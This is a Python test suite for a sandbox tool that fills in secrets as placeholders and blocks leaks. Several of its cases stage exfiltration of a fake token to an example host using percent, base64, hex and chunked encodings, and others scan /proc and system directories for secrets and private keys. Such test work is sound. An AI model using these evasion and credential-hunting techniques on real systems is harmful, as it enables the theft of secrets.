#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# session: user
"""Secrets: the command holds a placeholder, the value goes to one place only (S1 to S6, N30)."""
import base64
import json
import os
import subprocess
import urllib.parse

import place  # first: it finds the harness
import harness
from place import BOTH, PYTHON, Fail, Skip, case, check, get, https, need_program, statuses

HOST = "secret.example.com"
VALUE = "ghp_0123456789abcdefghijklmnopqrstuvwxyz"
ROTATED = "ghp_zyxwvutsrqponmlkjihgfedcba9876543210"


def store(p, name="TOKEN", value=VALUE):
    r = p.croft("secret", "set", name, stdin=value)
    if "unknown command" in r.err or "no such command" in r.err:
        raise Skip("croft has no secret command")
    check(r.rc == 0, "cannot store a secret: %s" % r)


def bound(**more):
    """One secret for one host, and two other hosts that are allowed."""
    secret = {"name": "TOKEN", "host": HOST, "place": "bearer", **more}
    return {"allow": [HOST, "raw.example.com", "raw2.example.com"], "secrets": [secret]}


# Runs inside: the steps' text may use @P@ for the placeholder, in one of several codings.
CLIENT = r'''
import base64, json, os, subprocess, sys
p = os.environ["TOKEN"]
raw = p.encode()
forms = {"@P@": p, "@PCT@": "".join("%%%02x" % b for b in raw), "@B64@": base64.b64encode(raw).decode(),
         "@B641@": base64.b64encode(b"x" + raw).decode(), "@B642@": base64.b64encode(b"xy" + raw).decode(),
         "@URL64@": base64.urlsafe_b64encode(raw).decode(), "@JSON@": "".join("\\u%04x" % b for b in raw), "@HEX@": raw.hex(),
         "@BASIC@": base64.b64encode(b"user:" + raw).decode(), "@HALF1@": p[:len(p) // 2], "@HALF2@": p[len(p) // 2:]}
text = open(sys.argv[1]).read()
for k, v in forms.items():
    text = text.replace(k, json.dumps(v)[1:-1])
steps = json.loads(text)
for s in steps:
    for i, piece in enumerate(s.get("send", [])):
        if "@LEN@" in piece:
            h, b = piece.split("\r\n\r\n", 1)
            rest = "".join(s["send"][i + 1:])
            s["send"][i] = h.replace("@LEN@", str(len(b) + len(rest))) + "\r\n\r\n" + b
json.dump(steps, open("filled.json", "w"))
sys.stdout.flush()
os.execv(sys.executable, [sys.executable, "probe.py", "filled.json"])
'''


def with_placeholder(p, policy, steps, **kw):
    p.write("client.py", CLIENT)
    argv = p.steps(steps)
    r, _ = p.croft_run(policy, PYTHON, "client.py", argv[2], **kw)
    check(VALUE not in r.out + r.err, "the value came back: %s" % r)
    return p.parse(r, steps)


def seen_by(p, label="raw"):
    return "".join(p.world.received(label))


def auth(value="Bearer @P@"):
    return ["Authorization: " + value]


def body(text):
    return "POST /b HTTP/1.1\r\nHost: %s\r\nContent-Length: @LEN@\r\n\r\n" + text


@case("S0-bound", tiers=BOTH)
def bound_secret(p):
    """The value is put in for its host; the command sees something of the same length instead."""
    store(p)
    found = with_placeholder(p, bound(), [https(HOST, get("/api", HOST, headers=auth()))])
    check(statuses(found[0]) == [200], found)
    sent = dict((k.lower(), v) for k, v in p.world.requests("raw")[0]["headers"])
    check(sent.get("authorization") == "Bearer " + VALUE, sent)
    r, receipt = p.croft_run(bound(), "/bin/sh", "-c", "printf %s \"$TOKEN\"")
    check(r.out != VALUE and len(r.out) == len(VALUE) and r.out.startswith("croft"), r)
    again, _ = p.croft_run(bound(), "/bin/sh", "-c", "printf %s \"$TOKEN\"")
    check(again.out == r.out, "the placeholder of this project changed from one run to the next")
    check(VALUE not in json.dumps(receipt), "the value is in the receipt")


@case("S0-placements")
def placements(p):
    store(p)
    for secret, step, want in (
            ({"place": "header", "field": "x-api-key"}, get("/h", HOST, headers=["X-Api-Key: @P@"]), "x-api-key: " + VALUE),
            ({"place": "basic", "field": "user"}, get("/b", HOST, headers=auth("Basic @BASIC@")),
             "basic " + base64.b64encode(b"user:" + VALUE.encode()).decode()),
            ({"place": "query", "field": "key"}, get("/q?key=@P@&z=1", HOST), "/q?key=" + VALUE)):
        p.world.forget()
        found = with_placeholder(p, bound(**secret), [https(HOST, step)])
        check(statuses(found[0]) == [200], found)
        check(want.lower() in seen_by(p).lower(), "%s: %s" % (secret, seen_by(p)))


@case("S0-command-line")
def command_line(p):
    store(p)
    found = with_placeholder(p, {"allow": [HOST]}, [https(HOST, get("/api", HOST, headers=auth()))],
                             options=["--secret", "TOKEN@" + HOST])
    check(statuses(found[0]) == [200] and VALUE in seen_by(p), found)


@case("S0-variable", tiers=BOTH)
def variable(p):
    """A key that is only in the caller's environment: put in for its host, and nowhere else to be seen."""
    p.env["TOKEN"] = VALUE
    found = with_placeholder(p, {"allow": [HOST]}, [https(HOST, get("/h", HOST, headers=["X-Key: @P@"]))],
                             options=["--secret", "TOKEN@" + HOST + ":header=x-key"])
    check(statuses(found[0]) == [200] and "x-key: " + VALUE in seen_by(p).lower().replace(VALUE.lower(), VALUE), seen_by(p))
    r, receipt = p.croft_run({"allow": [HOST]}, "/bin/sh", "-c", "env; echo %s" % VALUE,
                             options=["--secret", "TOKEN@" + HOST])
    check("TOKEN=croft" in r.out and "TOKEN=" + VALUE not in r.out, r)
    check(VALUE not in json.dumps(receipt), "the value is in the receipt")
    check(not grep_tree(os.path.join(p.dir, "state"), VALUE.encode()), "the value was written down")


@case("S1-elsewhere", tiers=BOTH)
def elsewhere(p):
    """Another host, plain text, another path, another method: neither the value nor the placeholder leaves."""
    store(p)
    policy = bound(paths=["/api/**"], methods=["GET"])
    steps = [https("raw.example.com", get("/1", headers=auth())), https("raw.example.com", get("/2?x=@P@")),
             https("raw.example.com", get("/3/@P@")), https("raw.example.com", get("/4", headers=["X-Y: a@P@b"])),
             https("raw.example.com", body("k=@P@") % "raw.example.com"),
             {"do": "http", "host": HOST, "port": 80, "send": [get("/api/5", HOST, headers=auth())]},
             https(HOST, get("/other/6", HOST, headers=auth())), https(HOST, get("/api/7", HOST, method="DELETE", headers=auth())),
             https(HOST, get("/api/8", HOST, headers=["X-Other: @P@"])), https(HOST, get("/api/9", HOST, headers=["Cookie: t=@P@"])),
             https(HOST, get("/api/@P@", HOST))]
    found = with_placeholder(p, policy, steps + [https(HOST, get("/api/ok", HOST, headers=auth()))])
    for s, f in zip(steps, found):
        check(statuses(f) and statuses(f)[0] in (400, 403), "%s: %s" % (s["send"][0][:50], f))
    check(statuses(found[-1]) == [200], found[-1])
    filled = p.read("filled.json")
    placeholder = json.loads(filled)[-1]["send"][0].split("Bearer ")[1].split("\r\n")[0]
    check(placeholder.startswith("croft") and placeholder not in seen_by(p), "the placeholder left")
    check(seen_by(p).count(VALUE) == 1, "the value went elsewhere: %s" % seen_by(p))
    check(len(p.denied().all) >= 8, p.denied())
    # The control: a text of the same shape that is no placeholder passes.
    p.inside(policy, [https("raw.example.com", get("/c", headers=["Authorization: Bearer " + "x" * 40]))])
    check("Bearer " + "x" * 40 in seen_by(p), "the control does not pass")


@case("S2-encoded")
def encoded(p):
    """Percent, base64 at each alignment, JSON, hexadecimal, split over writes and chunks."""
    store(p)
    coded = ["@PCT@", "@B64@", "@B641@", "@B642@", "@URL64@", "@JSON@", "@HEX@"]
    steps = [https("raw.example.com", body("{\"a\": \"%s\"}" % c).replace("%s", "raw.example.com", 1)) for c in coded]
    steps += [https("raw.example.com", get("/q?a=" + c)) for c in ("@PCT@", "@B64@", "@HEX@")]
    steps += [https("raw.example.com", get("/h", headers=["X-A: " + c])) for c in ("@B64@", "@HEX@", "@URL64@")]
    chunk = "POST /s HTTP/1.1\r\nHost: raw.example.com\r\nTransfer-Encoding: chunked\r\n\r\n"
    half = "%x" % (len(VALUE) // 2)
    steps.append(https("raw.example.com", chunk + half + "\r\n@HALF1@", "\r\n" + half + "\r\n", "@HALF2@\r\n0\r\n\r\n"))
    steps.append(https("raw.example.com", (body("@HALF1@") % "raw.example.com"), "@HALF2@"))
    found = with_placeholder(p, bound(), steps)
    sent = json.loads(p.read("filled.json"))
    p_text = sent[len(coded)]["send"][0]
    for s, f in zip(sent, found):
        # A body that streams may have begun to leave: then the connection is cut before the placeholder is whole.
        check(not statuses(f) or statuses(f)[0] >= 400, "%s: %s" % (s["send"][0][:120], f))
    check(p_text and VALUE not in seen_by(p), "the value left")
    holder = sent[-1]["send"][0].split("\r\n\r\n")[1] + sent[-1]["send"][1]
    check(len(holder) == len(VALUE) and holder not in seen_by(p).replace("\r\n%s\r\n" % half, ""), "the placeholder left whole")


@case("S3-echo", tiers=BOTH)
def echo(p):
    """A server that gives the value back: it is starred out in every form."""
    store(p)
    found = with_placeholder(p, bound(), [https(HOST, get("/echo-secret", HOST, headers=auth()))])
    check(statuses(found[0]) == [200] and VALUE in seen_by(p), "the value was not used: %s" % found)
    text = json.dumps(found[0])
    raw = VALUE.encode()
    for name, form in (("plain", VALUE), ("percent", "".join("%%%02X" % b for b in raw)), ("base64", base64.b64encode(raw).decode()),
                       ("base64-1", base64.b64encode(b"x" + raw).decode()[4:-4]), ("base64-2", base64.b64encode(b"xy" + raw).decode()[4:-4]),
                       ("hex", raw.hex()), ("json", "".join("\\\\u%04x" % b for b in raw))):
        check(form.lower() not in text.lower(), "%s form came back" % name)
    check("***" in text, "nothing was redacted: %s" % text)
    r = p.plain(PYTHON, "-c", "import urllib.request as u; r = u.Request('https://%s/echo-secret', headers={'Authorization': 'Bearer %s'});"
                "print(u.urlopen(r).read().decode())" % (HOST, VALUE))
    check(VALUE in r.out, "the control is not echoed: %s" % r)


def grep_tree(root, needle):
    found = []
    for directory, _, names in os.walk(root):
        for name in names:
            path = os.path.join(directory, name)
            try:
                with open(path, "rb") as f:
                    if needle in f.read():
                        found.append(path)
            except OSError:
                continue
    return found


@case("S4-nowhere", tiers=BOTH)
def nowhere(p):
    """Not in the sandbox's processes or files, not in argv or environments, not in receipts, journals or messages."""
    store(p)
    look = ("import os,sys,urllib.request as u\nv=bytes.fromhex(sys.argv[1]);hits=[]\n"
            "r=u.Request('https://%s/x',headers={'Authorization':'Bearer '+os.environ['TOKEN']});u.urlopen(r).read()\n"
            "for d,_,fs in os.walk('/proc'):\n"
            "  for f in fs:\n"
            "    if f in ('environ','cmdline','maps','status'):\n"
            "      try:\n"
            "        if v in open(os.path.join(d,f),'rb').read(): hits.append(os.path.join(d,f))\n"
            "      except OSError: pass\n"
            "for top in ('/tmp','/run','/etc','/dev/shm','/var/tmp',os.environ['HOME']):\n"
            "  for d,_,fs in os.walk(top):\n"
            "    for f in fs:\n"
            "      try:\n"
            "        q=os.path.join(d,f)\n"
            "        if os.path.isfile(q) and os.path.getsize(q)<1<<22 and v in open(q,'rb').read(): hits.append(q)\n"
            "      except OSError: pass\n"
            "print('hits',hits,flush=True);sys.stdin.readline()\n") % HOST
    child = p.start(bound(), PYTHON, "-c", look, VALUE[::-1].encode()[::-1].hex(), stdin=subprocess.PIPE)
    try:
        line = child.stdout.readline().decode()
        check(line == "hits []\n", "found inside: %s %s" % (line, "" if line else child.stderr.read().decode()[-800:]))
        for pid in harness.descendants(p.supervisor(child)):
            for name in ("cmdline", "environ"):
                try:
                    with open("/proc/%d/%s" % (pid, name), "rb") as f:
                        check(VALUE.encode() not in f.read(), "in %s of process %d" % (name, pid))
                except OSError:
                    continue
    finally:
        child.stdin.close()
        child.wait(harness.WAIT_S)
        err = child.stderr.read().decode()
        child.stdout.close()
        child.stderr.close()
    check(VALUE not in err and VALUE in seen_by(p), "used but not: %s" % err)
    kept = [f for f in grep_tree(p.dir, VALUE.encode()) if "/secrets" not in f]
    check(not kept, "written to %s" % kept)
    stored = grep_tree(p.env["XDG_STATE_HOME"], VALUE.encode())
    check(len(stored) == 1 and os.stat(stored[0]).st_mode & 0o077 == 0, "stored in %s" % stored)
    inside = p.inside(bound(), [{"do": "read", "path": stored[0]}])
    check("error" in inside[0] or VALUE not in inside[0].get("data", ""), "the store is readable inside")


@case("S4-killed")
def killed(p):
    """No core of the process that holds values."""
    store(p)
    child = p.start(bound(), PYTHON, "-c", "import os,sys,urllib.request as u\nr=u.Request('https://%s/x',headers={'Authorization':'Bearer '"
                    "+os.environ['TOKEN']});u.urlopen(r).read();print('ready',flush=True);sys.stdin.readline()" % HOST,
                    stdin=subprocess.PIPE)
    try:
        check(child.stdout.readline() == b"ready\n", "no answer")
        holders = [q for q in harness.descendants(p.supervisor(child)) if b"croft-gateway" in harness.command_line(q)]
        check(holders, "no gateway process")
        for pid in holders:
            with open("/proc/%d/limits" % pid, encoding="ascii") as f:
                core = [x for x in f if x.startswith("Max core")][0].split()
            check(core[4] == "0" and core[5] == "0", "process %d may leave a core: %s" % (pid, core))
            if p.user.uid:
                check(os.stat("/proc/%d/environ" % pid).st_uid == 0 or subprocess.run(
                    ["cat", "/proc/%d/environ" % pid], capture_output=True, check=False, **p.user.drop()).returncode != 0,
                    "process %d can be read by its user's other programs" % pid)
    finally:
        child.stdin.close()
        child.wait(harness.WAIT_S)
        child.stdout.close()
        child.stderr.close()


@case("S5-authority", tiers=BOTH)
def authority(p):
    """The sandbox's authority is trusted inside only, differs per run, and its key is nowhere to be read."""
    # A key, and not a program that knows how one begins: an installed croft-gateway lies in /usr/local.
    look = ("import os,re,ssl,socket,glob,sys\nfrom urllib.request import urlopen\n"
            "key=re.compile(b'-----BEGIN [A-Z ]*PRIVATE '+b'KEY-----[ \\\\r\\\\n]+[A-Za-z0-9+/=\\\\r\\\\n]{60,}')\n"
            "urlopen('https://raw.example.com/')\nhits=[]\n"
            "for top in ('/etc','/tmp','/run','/usr/local','/dev/shm','/var',os.environ['HOME'],os.getcwd()):\n"
            "  for d,_,fs in os.walk(top):\n"
            "    for f in fs:\n"
            "      try:\n"
            "        q=os.path.join(d,f)\n"
            "        if os.path.isfile(q) and os.path.getsize(q)<1<<24 and key.search(open(q,'rb').read()): hits.append(q)\n"
            "      except OSError: pass\n"
            "print(hits)\n"
            "pem=ssl.get_server_certificate(('raw.example.com',443)) if not os.environ.get('https_proxy') else ''\n"
            "print(hash(pem))\n")
    r, _ = p.croft_run({"allow": ["raw.example.com"]}, PYTHON, "-c", look, env={"PYTHONHASHSEED": "1"})
    check(r.rc == 0 and r.out.splitlines()[0] == "[]", r)
    planted = p.write("planted.pem", "-----BEGIN EC PRIVATE " + "KEY-----\n" + "MHcCAQEEIA" * 8 + "\n-----END EC PRIVATE " + "KEY-----\n")
    second, _ = p.croft_run({"allow": ["raw.example.com"]}, PYTHON, "-c", look)
    check(planted in second.out.splitlines()[0], "the control is not found: %s" % second)
    if p.tier == "namespace":
        check(second.out.splitlines()[1] != r.out.splitlines()[1], "the same certificate in two runs")
    check(not grep_tree(p.env["XDG_STATE_HOME"], b"PRIVATE " + b"KEY") if os.path.isdir(p.env["XDG_STATE_HOME"]) else True, "a key in the state")


@case("S5-not-trusted-on-host", tiers=BOTH)
def not_trusted_on_host(p):
    """Nothing that the run leaves makes the host trust it."""
    before = subprocess.run("sha256sum /etc/ssl/certs/ca-certificates.crt; ls -la /usr/local/share/ca-certificates /etc/ssl/certs | sha256sum",
                            shell=True, capture_output=True, text=True, check=False).stdout
    p.inside({"allow": ["raw.example.com"]}, [https("raw.example.com", get("/"))])
    after = subprocess.run("sha256sum /etc/ssl/certs/ca-certificates.crt; ls -la /usr/local/share/ca-certificates /etc/ssl/certs | sha256sum",
                           shell=True, capture_output=True, text=True, check=False).stdout
    check(before == after, "the host's authorities changed")


@case("S6-rotation")
def rotation(p):
    """A new value is used by the next run; a removed one by none."""
    store(p)
    with_placeholder(p, bound(), [https(HOST, get("/1", HOST, headers=auth()))])
    store(p, value=ROTATED)
    with_placeholder(p, bound(), [https(HOST, get("/2", HOST, headers=auth()))])
    text = seen_by(p)
    check(text.count(VALUE) == 1 and text.count(ROTATED) == 1, text)
    r = p.croft("secret", "rm", "TOKEN")
    check(r.rc == 0, r)
    try:
        r, _ = p.croft_run(bound(), "/bin/sh", "-c", "echo ran")
        check("ran" not in r.out, "ran without its secret: %s" % r)
    except Fail as e:
        check("TOKEN" in str(e), "the message does not name the secret: %s" % e)


@case("S6-store", once=True)
def stored(p):
    """Short values are refused, listing shows names only, names are checked."""
    r = p.croft("secret", "set", "SHORT", stdin="short")
    check(r.rc != 0, "a value of five characters was taken")
    for name in ("../X", "a b", "", "1X", "A" * 65, "X\nY"):
        check(p.croft("secret", "set", name, stdin=VALUE).rc != 0, "the name %r was taken" % name)
    store(p)
    r = p.croft("secret", "ls")
    check(r.rc == 0 and "TOKEN" in r.out and VALUE not in r.out, r)


@case("N30-foreign-credential", tiers=BOTH)
def foreign_credential(p):
    """A key of somebody else, through an API that is allowed: replaced, or refused where ours is required."""
    store(p)
    foreign = "sk-attacker-" + "k" * 28
    headers = ["Authorization: Bearer " + foreign, "X-Api-Key: " + foreign, "Cookie: session=" + foreign]
    steps = [https(HOST, get("/1", HOST, headers=[h])) for h in headers] + [https(HOST, get("/2?key=" + foreign, HOST, headers=auth()))]
    with_placeholder(p, bound(strip=True), steps[:1])
    check(foreign not in seen_by(p), "a foreign credential passed: %s" % seen_by(p))
    p.world.forget()
    found = with_placeholder(p, bound(strip=True, require=True), steps[:3] + [https(HOST, get("/ok", HOST, headers=auth()))])
    check(all(not statuses(f) or statuses(f)[0] == 403 for f in found[:3]), found)
    check(statuses(found[3]) == [200] and foreign not in seen_by(p), found)
    p.inside({"allow": [HOST]}, steps[:1])
    check(foreign in seen_by(p), "the control does not pass")


@case("N30-names", tiers=BOTH)
def foreign_names(p):
    """The same under the names that other services have for it, in headers and in the query."""
    store(p)
    foreign = "glpat-" + "k3" * 14
    headers = ["PRIVATE-TOKEN", "X-Auth-Token", "JOB-TOKEN", "X-Vault-Token", "X_Api_Key", "apikey", "DD-API-KEY", "X-Client-Secret"]
    names = ["private_token", "PRIVATE%5FTOKEN", "access_token", "api_key", "key", "X-Amz-Signature", "a=1;job_token"]
    steps = [https(HOST, get("/h", HOST, headers=[h + ": " + foreign])) for h in headers]
    steps += [https(HOST, get("/q?q=1&" + n + "=" + foreign, HOST)) for n in names]
    found = with_placeholder(p, bound(strip=True), steps)
    check(all(statuses(f) == [200] for f in found), found)
    check(foreign not in seen_by(p), "a foreign credential passed: %s" % seen_by(p))
    check(seen_by(p).count(VALUE) == len(steps), "ours was not put in")
    p.inside({"allow": [HOST]}, steps)
    check(seen_by(p).count(foreign) == len(steps), "the control does not pass")


@case("S7-environment", tiers=BOTH)
def environment(p):
    """Variables of the caller that look like the secret do not come in beside the placeholder."""
    need_program("env")
    store(p)
    r, _ = p.croft_run(bound(), "env", env={"TOKEN": VALUE, "OTHER_SECRET": VALUE, "AWS_SECRET_ACCESS_KEY": VALUE})
    check(VALUE not in r.out, r)
    check("TOKEN=croft" in r.out, r)
    check(urllib.parse.quote(VALUE) not in r.out, r)


if __name__ == "__main__":
    place.main()
